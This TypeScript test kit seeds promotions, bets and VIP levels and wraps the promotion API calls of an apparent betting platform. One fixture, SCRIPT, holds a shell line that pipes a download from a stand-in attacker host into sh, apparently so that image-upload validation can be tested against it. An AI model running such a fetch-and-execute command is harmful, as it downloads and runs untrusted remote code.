import { randomBytes } from 'node:crypto';
import type { PromotionCategory, PromotionKind, PromotionPeriod, RafflePrize } from '../../src/api/schemas/promotions';
import { json } from '../../server/db/json';
import { TEST_MERCHANT } from '../../server/testing/test-db';
import type { Member, MoneyKit } from './money-kit';

/** Test kit of the promotions area (docs/engagement.md "Promotions"): promotions made in the db around the kit's clock. */
export const DAY = 86_400_000;

/** Bytes that are a png / jpg by their magic numbers, and a shell script however it is named. */
export const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 73, 72, 68, 82]);
export const JPG = Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 74, 70, 73, 70]);
export const SCRIPT = new TextEncoder().encode('#!/bin/sh\ncurl https://evil.example/x | sh\n');

export interface PromoOpts {
  category?: PromotionCategory;
  kind?: PromotionKind;
  period?: PromotionPeriod;
  bonus?: number;
  turnover?: number;
  prizes?: RafflePrize[];
  startsIn?: number;
  endsIn?: number | null;
  merchant?: string;
  /** Lowest VIP level that may take part (default: 1 for category vip, else 0; migration 0016). */
  minVip?: number;
}

export function promoKit(k: MoneyKit) {
  return {
    /** A promotion (default: a started claim promotion of P 50 with ×5 turnover); answers its id. */
    async promotion(o: PromoOpts = {}): Promise<string> {
      const id = `t-promo-${randomBytes(5).toString('hex')}`;
      const now = k.clock.now().getTime();
      await k.d.db
        .insertInto('promo_activities')
        .values({
          id,
          merchant_code: o.merchant ?? TEST_MERCHANT,
          category: o.category ?? 'limited',
          kind: o.kind ?? 'claim',
          period: o.period ?? 'once',
          title: json({ en: `Promo ${id}`, bn: `প্রোমো ${id}` }),
          summary: json({ en: 'Summary', bn: 'সারাংশ' }),
          content: json({ en: '<p>Rules</p>', bn: '<p>নিয়ম</p>' }),
          bonus_amount: o.bonus ?? 5_000,
          turnover_multiplier: o.turnover ?? 5,
          prizes: json(o.prizes ?? []),
          starts_at: new Date(now + (o.startsIn ?? -DAY)),
          ends_at: o.endsIn === undefined || o.endsIn === null ? null : new Date(now + o.endsIn),
          sort: 0,
          min_vip_level: o.minVip ?? (o.category === 'vip' ? 1 : 0),
        })
        .execute();
      return id;
    },
    /** PUT /wps/promotion/apply as multipart: promotionId, comment, images (name and declared type free). */
    async apply(m: Member, promotionId: string, comment: string, images: { bytes: Uint8Array; name?: string; type?: string }[] = []): Promise<[number, any]> {
      const form = new FormData();
      form.append('promotionId', promotionId);
      form.append('comment', comment);
      for (const img of images) form.append('images', new File([Buffer.from(img.bytes)], img.name ?? 'win.png', { type: img.type ?? 'image/png' }));
      const res = await k.t.call('/wps/promotion/apply', { method: 'PUT', headers: { Authorization: m.token }, body: form });
      return [res.status, await res.json()];
    },
    claim: (m: Member, promotionId: string, requestId = k.rid()) => k.send('POST', '/wps/promotion/claim', { promotionId, requestId }, m),
    raffle: (m: Member, promotionId: string, requestId = k.rid()) => k.send('POST', '/wps/relay/MCSFE_claimRafflePromotion', { promotionId, requestId }, m),
    join: (m: Member, promotionId: string) => k.send('POST', '/wps/promotion/join', { promotionId }, m),
    mine: async (m: Member, id: string) => ((await k.get('/wps/promotion/mine', m))[1].value.list as any[]).find((p) => p.id === id),
    rewards: async (m: Member) => (await k.get('/wps/promotion/rewards', m))[1].value,
    /** A settled bet of the member (only its valid bet matters to turnover). */
    async bet(userId: string, validBet: number, opts: { status?: 'won' | 'lost' | 'void' | 'open'; at?: Date } = {}) {
      const at = opts.at ?? k.clock.now();
      await k.d.db
        .insertInto('bets')
        .values({
          reference: `TB${randomBytes(6).toString('hex')}`,
          merchant_code: TEST_MERCHANT,
          user_id: userId,
          wallet_code: 'MAIN',
          category: 'RNG',
          vendor: 'DEMO',
          game_name: 'Test slot',
          stake: validBet,
          valid_bet: validBet,
          payout: opts.status === 'open' ? null : 0,
          status: opts.status ?? 'lost',
          placed_at: at,
          settled_at: opts.status === 'open' ? null : at,
        })
        .execute();
    },
    /** The member's VIP level as the points area keeps it (member_progress, normally written by its accrual job). */
    async vipLevel(userId: string, level: number) {
      await k.d.db
        .insertInto('member_progress')
        .values({ user_id: userId, merchant_code: TEST_MERCHANT, vip_level: level, level_at: k.clock.now(), updated_at: k.clock.now() })
        .onConflict((oc) => oc.column('user_id').doUpdateSet({ vip_level: level }))
        .execute();
    },
    count: (table: 'promo_applications' | 'promo_application_images' | 'promo_bonuses' | 'promo_participants') => k.count(table),
  };
}
